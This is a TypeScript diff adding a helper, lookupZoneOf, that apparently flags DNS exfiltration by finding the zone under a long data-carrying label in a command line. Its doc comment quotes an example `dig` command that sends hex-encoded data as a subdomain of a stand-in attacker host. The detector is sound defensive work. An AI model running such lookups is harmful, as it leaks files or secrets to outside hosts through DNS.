@@ -32,3 +32,18 @@ export function parentDomainOf(hostname: string | null): string | null {
   const isSold = labels.length > 2 && top.length === 2 && secondLevels.has(second);
   return labels.length < 2 ? null : labels.slice(isSold ? -3 : -2).join('.');
 }
+
+/** Length from which a label may carry data. */
+const longLabel = 16;
+
+/**
+ * Zone in which a command looks a long name up: `t.evil.example` of `dig 4d5a90000300000004.t.evil.example`.
+ */
+export function lookupZoneOf(commandLine: string | null): string | null {
+  for (const word of commandLine?.split(/[\s=&"']+/) ?? []) {
+    const labels = word.toLowerCase().split('.');
+    const zone = labels.slice(labels.findLastIndex(({ length }) => length >= longLabel) + 1);
+    if (zone.length >= 2 && zone.length < labels.length) return zone.join('.');
+  }
+  return null;
+}
